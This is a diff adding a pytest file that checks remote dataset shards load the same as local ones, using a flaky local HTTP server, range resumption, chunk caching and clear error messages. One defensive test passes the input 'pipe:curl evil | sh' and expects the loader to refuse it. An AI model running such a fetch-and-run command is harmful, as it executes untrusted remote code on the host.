@@ -1,0 +1,206 @@
+"""Remote shards give the same batches as local ones, over connections that break, without fetching a byte twice."""
+
+from __future__ import annotations
+
+import itertools
+import re
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import fsspec
+import numpy as np
+import pytest
+import torch
+
+from dcgan_dist.data.shard_plan import ShardPlan
+from dcgan_dist.data.shards.manifest import load_manifest
+from dcgan_dist.data.stream import stream_batches
+from dcgan_dist.errors import InputError
+from dcgan_dist.storage import chunk_cache, transport
+from dcgan_dist.storage.remote import RemoteFolder
+from tests.helpers.shards import write_shards
+
+
+class FlakyServer:
+    """Serves a folder with ranges; breaks off after `break_after` bytes of a response, `breaks` times."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder, self.breaks, self.break_after, self.status = folder, 0, 1 << 30, 200
+        self.sent: list[tuple[str, int, int]] = []
+        outer = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_HEAD(self) -> None:
+                self.answer(body=False)
+
+            def do_GET(self) -> None:
+                self.answer(body=True)
+
+            def answer(self, body: bool) -> None:
+                path = outer.folder / self.path.lstrip("/")
+                if outer.status != 200 or not path.is_file():
+                    self.send_error(outer.status if outer.status != 200 else 404)
+                    return
+                data = path.read_bytes()
+                first, last = 0, len(data) - 1
+                if match := re.fullmatch(r"bytes=(\d+)-(\d+)", self.headers.get("Range", "")):
+                    first, last = int(match[1]), min(int(match[2]), len(data) - 1)
+                if first >= len(data):
+                    self.send_error(416)
+                    return
+                self.send_response(206 if match else 200)
+                self.send_header("Content-Length", str(last + 1 - first))
+                self.end_headers()
+                if body:
+                    part = data[first : last + 1]
+                    if outer.breaks and len(part) > outer.break_after:
+                        outer.breaks -= 1
+                        part = part[: outer.break_after]
+                    outer.sent.append((path.name, first, first + len(part)))
+                    self.wfile.write(part)
+
+            def log_message(self, format: str, *args: object) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+
+
+@pytest.fixture
+def server(tmp_path: Path) -> Iterator[FlakyServer]:
+    (tmp_path / "served").mkdir()
+    flaky = FlakyServer(tmp_path / "served")
+    yield flaky
+    flaky.server.shutdown()
+    flaky.server.server_close()
+
+
+@pytest.fixture(autouse=True)
+def _short_pauses(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(transport, "FIRST_PAUSE_SECONDS", 0.001)
+
+
+def first_batches(location: str, n: int = 6, loader_workers: int = 0) -> list[torch.Tensor]:
+    manifest = load_manifest(location)
+    plan = ShardPlan(shard_samples=manifest.shard_samples, batch_size=4, streams=2, window=5)
+    batches = stream_batches(manifest, plan, rank=0, world_size=1, image_size=8, loader_workers=loader_workers)
+    try:
+        return [batch.images for batch in itertools.islice(batches, n)]
+    finally:
+        batches.close()
+
+
+@pytest.mark.parametrize("layout", ["samples", "blocks"])
+@pytest.mark.parametrize("loader_workers", [0, 1])
+def test_shards_behind_http_give_the_local_batches(server: FlakyServer, layout, loader_workers: int) -> None:
+    write_shards(server.folder, (9, 8), layout=layout)
+    server.breaks, server.break_after = 5, 700
+
+    local = first_batches(str(server.folder))
+    over_http = first_batches(server.url, loader_workers=loader_workers)
+
+    assert all(torch.equal(a, b) for a, b in zip(local, over_http, strict=True))
+
+
+def test_shards_behind_fsspec_give_the_local_batches(tmp_path: Path) -> None:
+    write_shards(tmp_path, (9, 8))
+    memory = fsspec.filesystem("memory")
+    for path in tmp_path.iterdir():
+        memory.pipe_file(f"/bucket/shards/{path.name}", path.read_bytes())
+
+    local, there = first_batches(str(tmp_path)), first_batches("memory://bucket/shards")
+
+    assert all(torch.equal(a, b) for a, b in zip(local, there, strict=True))
+
+
+def test_a_broken_transfer_goes_on_at_the_byte(server: FlakyServer) -> None:
+    content = np.random.default_rng(0).bytes(100_000)
+    (server.folder / "a.tar").write_bytes(content)
+    server.breaks, server.break_after = 4, 12_345
+    folder = RemoteFolder(server.url)
+
+    data = folder.read("a.tar", 0, len(content))
+    folder.close()
+
+    assert data == content
+    assert [first for _, first, _ in server.sent] == [0, 12_345, 24_690, 37_035, 49_380]
+    assert sum(end - first for _, first, end in server.sent) == len(content)
+
+
+def test_ranges_across_chunks_and_past_the_end_are_right(server: FlakyServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(chunk_cache, "CHUNK_BYTES", 100)
+    content = np.random.default_rng(0).bytes(450)
+    (server.folder / "a.tar").write_bytes(content)
+    folder = RemoteFolder(server.url)
+
+    for first, size in ((0, 450), (99, 2), (100, 100), (350, 100), (440, 50), (449, 1)):
+        assert folder.read("a.tar", first, size) == content[first : first + size]
+
+    assert len(server.sent) == 5  # each chunk once
+    folder.close()
+
+
+def test_the_cache_stays_within_its_bound_and_serves_again_without_the_network(
+    server: FlakyServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(chunk_cache, "CHUNK_BYTES", 1000)
+    (server.folder / "a.tar").write_bytes(bytes(10_000))
+    folder = RemoteFolder(server.url, cache_folder=str(tmp_path / "cache"), cache_bytes=3500)
+
+    for chunk in range(10):
+        folder.read("a.tar", chunk * 1000, 1000)
+    folder.close()
+
+    assert sum(path.stat().st_size for path in (tmp_path / "cache").rglob("*.chunk")) == 3000
+    fetched = len(server.sent)
+    again = RemoteFolder(server.url, cache_folder=str(tmp_path / "cache"), cache_bytes=3500)
+    again.read("a.tar", 9500, 500)
+    again.close()
+    assert len(server.sent) == fetched
+
+
+def test_a_private_cache_goes_with_its_reader(server: FlakyServer) -> None:
+    (server.folder / "a.tar").write_bytes(bytes(10))
+    folder = RemoteFolder(server.url)
+    folder.read("a.tar", 0, 10)
+    cache = folder._private
+
+    folder.close()
+
+    assert cache is not None
+    assert not Path(cache).exists()
+
+
+def test_storage_that_stays_away_is_an_error_and_not_a_hang(server: FlakyServer) -> None:
+    write_shards(server.folder, (9,))
+    server.status = 503
+
+    with pytest.raises(InputError, match="could not be read in 6 attempts"):
+        load_manifest(server.url)
+
+
+def test_missing_and_cut_remote_shards_are_named(server: FlakyServer) -> None:
+    with pytest.raises(InputError, match=r"manifest\.json cannot be read"):
+        load_manifest(server.url)
+    manifest = write_shards(server.folder, (9, 3))
+    shard = server.folder / manifest.shards[1].name
+    shard.write_bytes(shard.read_bytes()[:-1])
+    with pytest.raises(InputError, match=r"t-train-000001\.tar has \d+ bytes"):
+        load_manifest(server.url)
+    shard.unlink()
+    with pytest.raises(InputError, match=r"t-train-000001\.tar is missing"):
+        load_manifest(f"{server.url}/manifest.json")
+
+
+@pytest.mark.parametrize("address", ["pipe:curl evil | sh", "pipe:cat x.tar"])
+def test_a_shell_command_is_never_run(address: str) -> None:
+    with pytest.raises(InputError, match="would run a shell command"):
+        load_manifest(address)
+
+
+def test_unknown_protocols_are_refused_in_words() -> None:
+    with pytest.raises(InputError, match=r"unknown protocol.*s3://"):
+        load_manifest("ftp2://host/shards")
